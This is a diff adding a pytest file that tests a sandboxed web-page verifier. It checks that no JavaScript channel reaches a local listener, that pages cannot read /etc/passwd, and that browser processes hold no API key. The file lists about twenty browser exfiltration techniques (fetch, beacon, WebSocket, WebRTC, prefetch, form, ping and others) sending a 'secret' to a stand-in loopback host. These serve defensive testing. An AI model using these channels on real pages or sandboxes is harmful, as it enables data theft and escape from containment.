@@ -1,0 +1,141 @@
+"""A page that tries every way out: a listener outside hears nothing, and nothing of ours can be read inside."""
+
+import os
+import socket
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from orchestrator.records import Site, Status, Verdict
+from orchestrator.verify.offspring import descendants
+from orchestrator.verify.verifier import Verifier
+from orchestrator.verify.ways import Plan
+from tests.verify.corpus.case import page
+
+
+class Listener:
+    """Listens on one loopback port, TCP and UDP, and keeps what it hears."""
+
+    def __init__(self) -> None:
+        self.heard: list[bytes] = []
+        self._tcp = socket.create_server(("127.0.0.1", 0))
+        self.port: int = self._tcp.getsockname()[1]
+        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self._udp.bind(("127.0.0.1", self.port))
+        for loop in (self._accept, self._receive):
+            threading.Thread(target=loop, daemon=True).start()
+
+    def _accept(self) -> None:
+        while True:
+            try:
+                connection, _ = self._tcp.accept()
+            except OSError:
+                return
+            self.heard.append(b"tcp")
+            connection.close()
+
+    def _receive(self) -> None:
+        while True:
+            try:
+                self.heard.append(b"udp " + self._udp.recv(2000))
+            except OSError:
+                return
+
+    def close(self) -> None:
+        self._tcp.close()
+        self._udp.close()
+
+
+@pytest.fixture
+def listener() -> Iterator[Listener]:
+    outside = Listener()
+    yield outside
+    outside.close()
+
+
+WAYS_OUT = {
+    "fetch": "fetch(OUT).catch(() => {})",
+    "fetch by name": "fetch(OUT.replace('127.0.0.1', 'localhost')).catch(() => {})",
+    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('POST', OUT); x.send('s')",
+    "beacon": "navigator.sendBeacon(OUT, 'secret')",
+    "image": "new Image().src = OUT",
+    "style": "document.head.insertAdjacentHTML('beforeend', `<link rel=stylesheet href='${OUT}'>`)",
+    "frame": "document.body.insertAdjacentHTML('beforeend', `<iframe title=f src='${OUT}'></iframe>`)",
+    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${OUT}').catch(() => {}); try { importScripts('${OUT}') } catch {}`])))",
+    "shared worker": "new SharedWorker(URL.createObjectURL(new Blob([`fetch('${OUT}').catch(() => {})`])))",
+    "service worker": "navigator.serviceWorker.register('sw.js').catch(() => {})",
+    "WebSocket": "new WebSocket(OUT.replace('http', 'ws'))",
+    "EventSource": "new EventSource(OUT)",
+    "WebRTC": "const c = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${PORT}`}]}); c.createDataChannel('d'); "
+    "c.createOffer().then(o => c.setLocalDescription(o))",
+    "popup": "window.open(OUT)",
+    "popup of a click": "const a = document.createElement('a'); a.href = OUT; a.target = '_blank'; document.body.append(a); a.click()",
+    "prefetch": "document.head.insertAdjacentHTML('beforeend', `<link rel=dns-prefetch href='${OUT}'><link rel=preconnect href='${OUT}'>"
+    "<link rel=prefetch href='${OUT}'>`)",
+    "speculation": "const s = document.createElement('script'); s.type = 'speculationrules'; "
+    "s.text = JSON.stringify({prefetch: [{urls: [OUT]}], prerender: [{urls: [OUT]}]}); document.head.append(s)",
+    "form": "const f = document.createElement('form'); f.action = OUT; f.method = 'post'; f.target = '_blank'; document.body.append(f); f.submit()",
+    "download": "const d = document.createElement('a'); d.href = OUT; d.download = 'x'; document.body.append(d); d.click()",
+    "ping": "const p = document.createElement('a'); p.href = '#x'; p.ping = OUT; document.body.append(p); p.click()",
+    "video": "document.body.insertAdjacentHTML('beforeend', `<video src='${OUT}' autoplay muted></video>`)",
+    "leaving": "location.href = OUT",
+}
+
+
+def judge(verifier: Verifier, script: str, listener: Listener) -> Verdict:
+    out = f"const PORT = {listener.port}, OUT = `http://127.0.0.1:${{PORT}}/secret`;"
+    files = {"index.html": page(script=out + script).encode(), "sw.js": f"fetch('http://127.0.0.1:{listener.port}')".encode()}
+    return verifier.verify(Site(files), Plan(checks=()))
+
+
+@pytest.mark.parametrize("way", WAYS_OUT)
+def test_nothing_gets_out(way: str, verifier: Verifier, listener: Listener) -> None:
+    judge(verifier, WAYS_OUT[way], listener)
+    assert listener.heard == []
+
+
+def test_the_listener_would_hear(listener: Listener) -> None:
+    socket.create_connection(("127.0.0.1", listener.port)).recv(1)
+    assert listener.heard == [b"tcp"]
+
+
+def test_files_of_this_machine_cannot_be_read(verifier: Verifier, listener: Listener) -> None:
+    script = "fetch('file:///etc/passwd').then(() => { throw new Error('it was read') }, () => { document.title = 'shut' })"
+    verdict = judge(verifier, script, listener)
+    assert [r.check for r in verdict.counted(Status.FAILED) if "it was read" in r.seen] == []
+
+
+def test_a_dispatched_page_stays_on_its_own_address(verifier: Verifier, listener: Listener) -> None:
+    verdict = judge(verifier, "location.href = 'file:///etc/passwd'", listener)
+    assert "root:" not in verdict.model_dump_json()
+
+
+def test_no_process_of_the_browser_has_a_secret_in_its_environment(
+    monkeypatch: pytest.MonkeyPatch, verifier: Verifier
+) -> None:
+    monkeypatch.setenv("OPENAI_API_KEY", "the-key-of-the-house")
+    with Verifier(online=False) as fresh:
+        fresh.verify(Site({"index.html": page().encode()}), Plan(checks=()))
+        assert fresh._child is not None
+        child = fresh._child._process.pid
+        environments = [Path(f"/proc/{p}/environ").read_bytes() for p in [child, *descendants(child)] if _alive(p)]
+    assert len(environments) >= 3
+    assert [each for each in environments if b"the-key-of-the-house" in each] == []
+
+
+def test_no_process_outlives_the_verifier() -> None:
+    with Verifier(online=False) as fresh:
+        fresh.verify(Site({"index.html": page().encode()}), Plan(checks=()))
+        assert fresh._child is not None
+        family = [fresh._child._process.pid, *descendants(fresh._child._process.pid)]
+    assert [process for process in family if _alive(process)] == []
+
+
+def _alive(process: int) -> bool:
+    try:
+        os.kill(process, 0)
+        return "\nState:\tZ" not in Path(f"/proc/{process}/status").read_text("utf-8")
+    except (ProcessLookupError, FileNotFoundError):
+        return False
